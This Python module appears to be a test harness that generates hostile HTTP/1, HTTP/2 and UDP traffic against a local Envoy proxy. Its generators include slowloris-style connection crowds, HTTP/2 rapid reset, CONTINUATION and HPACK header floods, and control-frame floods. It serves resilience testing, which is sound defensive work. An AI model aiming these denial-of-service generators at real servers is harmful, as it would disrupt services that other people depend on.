"""Hostile clients: many connections that are slow, idle or deaf, and single ones that flood. Each is bounded in count and time.

They work on sockets without asyncio, so that they can run in a thread or a process of their own. What does not belong here: what Envoy
should do about them.
"""

from __future__ import annotations

import contextlib
import errno
import select
import socket
import ssl
import time
from collections import Counter
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass, field

import hpack
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from examples.apps import Address

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SOURCES = [f"127.0.0.{number}" for number in range(2, 12)]
"""Addresses that clients have: one address has not enough ports for tens of thousands of connections."""
_OPENING = 256
"""Connections that are opened at a time; more would only overflow the queue of the listener."""
_GONE = select.EPOLLRDHUP | select.EPOLLHUP | select.EPOLLERR


@dataclass(slots=True)
class Outcome:
    """What became of an attack: connections `opened`, and `closed` by the other side; bytes `sent`; `answers` by their first bytes.

    `goaway` is the error code of HTTP/2 with which a connection was ended, None where it was not, or without a word. `streams` of HTTP/2
    have been answered to their end.
    """

    opened: int = 0
    closed: int = 0
    sent: int = 0
    seconds: float = 0.0
    answers: Counter[str] = field(default_factory=Counter)
    goaway: int | None = None
    streams: set[int] = field(default_factory=set)


@dataclass(slots=True)
class Crowd:
    """Many connections at once. Each sends `first`, then every `pause` seconds the next byte of `trickle`; `deaf` ones read nothing.

    With `receive_buffer` the kernel takes so few bytes for a client that reads nothing. `rate`: connections opened a second, at most, and
    closed a second when the block ends.
    """

    address: Address
    count: int
    first: bytes = b""
    trickle: bytes = b""
    pause: float = 0.2
    deaf: bool = False
    receive_buffer: int = 0
    rate: int = 0
    outcome: Outcome = field(default_factory=Outcome)
    _sockets: dict[int, socket.socket] = field(default_factory=dict)
    _poll: select.epoll = field(default_factory=select.epoll)

    def __enter__(self) -> Crowd:
        """Open all of them. Raises OSError where that fails."""
        begun = time.monotonic()
        at_once = self._at_once
        while self.outcome.opened < self.count:
            self._open(min(at_once, self.count - self.outcome.opened))
            if self.rate:
                time.sleep(max(0.0, begun + self.outcome.opened / self.rate - time.monotonic()))
        return self

    def __exit__(self, *_: object) -> None:
        self.close()

    @property
    def _at_once(self) -> int:
        return min(_OPENING, max(self.rate // 20, 1)) if self.rate else _OPENING

    def close(self) -> None:
        """Close those that are left."""
        begun = time.monotonic()
        for number, each in enumerate(self._sockets.values()):
            each.close()
            if self.rate and number % self._at_once == 0:
                time.sleep(max(0.0, begun + number / self.rate - time.monotonic()))
        self._sockets.clear()
        self._poll.close()

    def last(self, seconds: float, enough: Callable[[], bool] = lambda: False) -> Outcome:
        """Go on for so many seconds, or until all were closed by the other side, or `enough` is true."""
        begun = time.monotonic()
        sent = 0
        due = begun + self.pause
        while self._sockets and not enough() and (now := time.monotonic()) < begun + seconds:
            if sent < len(self.trickle) and now >= due:
                self._send(self.trickle[sent : sent + 1])
                sent, due = sent + 1, due + self.pause
            self._hear(0.05)
        self.outcome.seconds = time.monotonic() - begun
        return self.outcome

    def _open(self, count: int) -> None:
        opening = []
        for number in range(count):
            made = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            if self.receive_buffer:
                made.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, self.receive_buffer)
            made.bind((SOURCES[(self.outcome.opened + number) % len(SOURCES)], 0))
            made.setblocking(False)  # noqa: FBT003
            made.connect_ex(self.address)
            opening.append(made)
        for made in opening:
            waiting = select.poll()
            waiting.register(made, select.POLLOUT)
            if not waiting.poll(60_000):
                raise TimeoutError("a connection was not accepted within a minute")
            if failed := made.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
                raise OSError(failed, errno.errorcode[failed])
            self._sockets[made.fileno()] = made
            self._poll.register(made, _GONE | (0 if self.deaf else select.EPOLLIN))
            with contextlib.suppress(OSError):
                self.outcome.sent += made.send(self.first) if self.first else 0
        self.outcome.opened += count

    def _send(self, piece: bytes) -> None:
        for each in self._sockets.values():
            with contextlib.suppress(OSError):
                self.outcome.sent += each.send(piece)

    def _hear(self, seconds: float) -> None:
        for number, happened in self._poll.poll(seconds):
            each = self._sockets[number]
            if self.deaf or happened & (select.EPOLLHUP | select.EPOLLERR):
                self._forget(number)
                continue
            try:
                heard = each.recv(1 << 16)
            except OSError:
                heard = b""
            if heard:
                self.outcome.answers[heard[:12].decode("latin-1")] += 1
            else:
                self._forget(number)

    def _forget(self, number: int) -> None:
        self._poll.unregister(number)
        self._sockets.pop(number).close()
        self.outcome.closed += 1


def connected(address: Address, tls: ssl.SSLContext | None = None, name: str = "") -> socket.socket:
    """One connection, with TLS if there is a context for it."""
    made = socket.create_connection(address, timeout=60)
    return tls.wrap_socket(made, server_hostname=name) if tls else made


def flood(
    made: socket.socket, pieces: Iterator[bytes], *, seconds: float, deaf: bool = False, enough: Callable[[bytes], bool] = lambda _: False
) -> Outcome:
    """Send the pieces as fast as they are taken. It ends when the other side closes, what was heard is `enough`, or the time is over."""
    outcome = Outcome(opened=1)
    begun = time.monotonic()
    heard = bytearray()
    made.settimeout(0.5)
    with made:
        try:
            for piece in pieces:
                if time.monotonic() > begun + seconds:
                    break
                outcome.sent += _pushed(made, piece, heard, begun + seconds, deaf=deaf)
            while not outcome.closed and not enough(bytes(heard)) and time.monotonic() < begun + seconds:
                outcome.closed = int(not _heard(made, heard, 0.2))
        except OSError:
            outcome.closed = 1
            with contextlib.suppress(OSError):
                while _heard(made, heard, 0.2):
                    pass
    outcome.seconds = time.monotonic() - begun
    for frame in _frames(bytes(heard)):
        if isinstance(frame, GoAwayFrame):
            outcome.goaway = frame.error_code
    outcome.streams = answered(bytes(heard))
    outcome.answers = Counter(_statuses(bytes(heard)))
    return outcome


def one_each(address: Address, messages: Sequence[bytes], *, seconds: float) -> Outcome:
    """Send each message over a connection of its own, all of them open at once; `answers` are records of TLS: "handshake" or "other"."""
    outcome = Outcome(opened=len(messages))
    with contextlib.ExitStack() as stack:
        opened = []
        for message in messages:
            opened.append(stack.enter_context(connected(address)))
            with contextlib.suppress(OSError):
                opened[-1].sendall(message)
        end = time.monotonic() + seconds
        for made in opened:
            made.settimeout(max(end - time.monotonic(), 0.01))
            heard = b""
            with contextlib.suppress(TimeoutError):
                try:
                    heard = made.recv(1)
                    outcome.closed += heard in (b"", b"\x15")  # an alert comes before the end
                except ConnectionError:
                    outcome.closed += 1
            if heard:
                outcome.answers["handshake" if heard == b"\x16" else "other"] += 1
    return outcome


def _pushed(made: socket.socket, piece: bytes, heard: bytearray, end: float, *, deaf: bool) -> int:
    """Send a piece whole, and read meanwhile what has come, unless deaf. Raises OSError where the connection has ended."""
    left = memoryview(piece)
    while left and time.monotonic() < end:
        with contextlib.suppress(TimeoutError):
            left = left[made.send(left) :]
        if not deaf and select.select([made], [], [], 0)[0] and not _heard(made, heard, 0.2):
            raise ConnectionResetError
    return len(piece) - len(left)


def _heard(made: socket.socket, heard: bytearray, seconds: float) -> bool:
    """Read what comes within that time; False where the other side has closed."""
    made.settimeout(seconds)
    try:
        data = made.recv(1 << 16)
    except TimeoutError:
        return True
    if len(heard) < 1 << 20:
        heard += data
    return bool(data)


def _statuses(heard: bytes) -> Iterator[str]:
    for line in heard.split(b"\r\n"):
        if line.startswith(b"HTTP/1."):
            yield line[9:12].decode("latin-1")


def answered(heard: bytes) -> set[int]:
    """The streams of HTTP/2 that have been answered to their end in what was heard."""
    ends = (frame for frame in _frames(heard) if isinstance(frame, (HeadersFrame, DataFrame)) and "END_STREAM" in frame.flags)
    return {frame.stream_id for frame in ends}


def _frames(heard: bytes) -> Iterator[Frame]:
    """The whole frames of what was heard, where it is HTTP/2."""
    position = 0
    with contextlib.suppress(Exception):
        while position + 9 <= len(heard):
            frame, length = Frame.parse_frame_header(memoryview(heard)[position : position + 9])
            frame.parse_body(memoryview(heard)[position + 9 : position + 9 + length])
            yield frame
            position += 9 + length


def opening(window: int | None = None) -> bytes:
    """How an HTTP/2 client begins; `window` is how much each stream may send to it."""
    settings = SettingsFrame(0)
    if window is not None:
        settings.settings = {SettingsFrame.INITIAL_WINDOW_SIZE: window}
    return PREFACE + settings.serialize()


def request_block(host: str, path: str = "/", headers: tuple[tuple[str, str], ...] = (), method: str = "GET") -> bytes:
    """The header block of a request, without references to headers sent before."""
    pseudo = ((":method", method), (":scheme", "http"), (":authority", host), (":path", path))
    return bytes(hpack.Encoder().encode([*pseudo, *headers], huffman=False))


def headers_frame(stream: int, block: bytes, *flags: str) -> bytes:
    """A HEADERS frame, by default one that neither headers nor the request end with."""
    return bytes(HeadersFrame(stream, block, flags=flags).serialize())


def resets(host: str, count: int) -> Iterator[bytes]:
    """HTTP/2 rapid reset: requests each of which is taken back at once."""
    block = request_block(host)
    yield opening()
    for number in range(count):
        stream = 2 * number + 1
        yield headers_frame(stream, block, "END_HEADERS", "END_STREAM") + RstStreamFrame(stream, 8).serialize()


def continuations(host: str, count: int, size: int = 16_000) -> Iterator[bytes]:
    """A request whose headers never end: CONTINUATION frames, each with a header of its own."""
    yield opening() + headers_frame(1, request_block(host))
    encoder = hpack.Encoder()
    for number in range(count):
        yield ContinuationFrame(1, bytes(encoder.encode([(f"x-{number}", "y" * size)], huffman=False))).serialize()


def empty_continuations(host: str, count: int) -> Iterator[bytes]:
    """A request whose headers never end, in frames without content."""
    yield opening() + headers_frame(1, request_block(host))
    piece = ContinuationFrame(1, b"").serialize() * 64
    for _ in range(count // 64):
        yield piece


def settings(count: int) -> Iterator[bytes]:
    """SETTINGS, each of which is to be acknowledged."""
    yield from _repeated(SettingsFrame(0, {SettingsFrame.INITIAL_WINDOW_SIZE: 65_535}), count)


def pings(count: int) -> Iterator[bytes]:
    """PINGs, each of which is to be answered."""
    yield from _repeated(PingFrame(0, b"12345678"), count)


def priorities(count: int) -> Iterator[bytes]:
    """PRIORITY frames of streams that nobody opens."""
    yield from _repeated(PriorityFrame(1, depends_on=0, stream_weight=1), count)


def window_updates(count: int) -> Iterator[bytes]:
    """WINDOW_UPDATE frames by a byte."""
    yield from _repeated(WindowUpdateFrame(0, window_increment=1), count)


def empty_data(host: str, count: int) -> Iterator[bytes]:
    """A body of DATA frames without content."""
    yield opening() + headers_frame(1, request_block(host, method="POST"), "END_HEADERS")
    piece = DataFrame(1, b"").serialize() * 64
    for _ in range(count // 64):
        yield piece


def _repeated(frame: Frame, count: int) -> Iterator[bytes]:
    yield opening()
    piece = frame.serialize() * 64
    for _ in range(count // 64):
        yield piece


def bombs(host: str, streams: int, value: int = 4_000, references: int = 60) -> Iterator[bytes]:
    """Requests that never end, whose headers are one long value, sent once, and references to it of a byte each."""
    encoder = hpack.Encoder()
    request = [(":method", "POST"), (":scheme", "http"), (":authority", host), (":path", "/")]
    long = ("x-long", "y" * value)
    yield opening() + headers_frame(1, bytes(encoder.encode([*request, long], huffman=False)), "END_HEADERS")
    for number in range(1, streams):
        block = bytes(encoder.encode([*request, *[long] * references], huffman=False))
        yield headers_frame(2 * number + 1, block, "END_HEADERS")


def downloads(host: str, path: str, streams: int, window: int = 0) -> Iterator[bytes]:
    """Requests for what is never read, as no stream may send more than its window."""
    yield opening(window)
    for number in range(streams):
        yield headers_frame(2 * number + 1, request_block(host, path), "END_HEADERS", "END_STREAM")


def many_headers(host: str, count: int, size: int = 1) -> Iterator[bytes]:
    """An HTTP/1 request with so many headers."""
    yield f"GET / HTTP/1.1\r\nHost: {host}\r\n".encode()
    for number in range(0, count, 500):
        yield b"".join(b"x-%d: %s\r\n" % (each, b"y" * size) for each in range(number, min(number + 500, count)))
    yield b"\r\n"


def chunk_extensions(host: str, count: int, size: int = 60_000) -> Iterator[bytes]:
    """An upload in chunks of a byte, each with a long extension."""
    yield f"POST / HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: chunked\r\n\r\n".encode()
    for _ in range(count):
        yield b"1;x=" + b"y" * size + b"\r\nz\r\n"


def pipelined(host: str, count: int, path: str = "/") -> Iterator[bytes]:
    """HTTP/1 requests one after the other, which do not wait for answers."""
    piece = f"GET {path} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode() * 100
    for _ in range(count // 100):
        yield piece


def datagrams(address: Address, count: int, payload: bytes = b"x") -> int:
    """Send a datagram from each of so many ports, as spoofed ones would come; return how many were sent."""
    sent = 0
    for number in range(count):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
            made.bind((SOURCES[number % len(SOURCES)], 0))
            with contextlib.suppress(OSError):
                sent += made.sendto(payload, address) > 0
    return sent
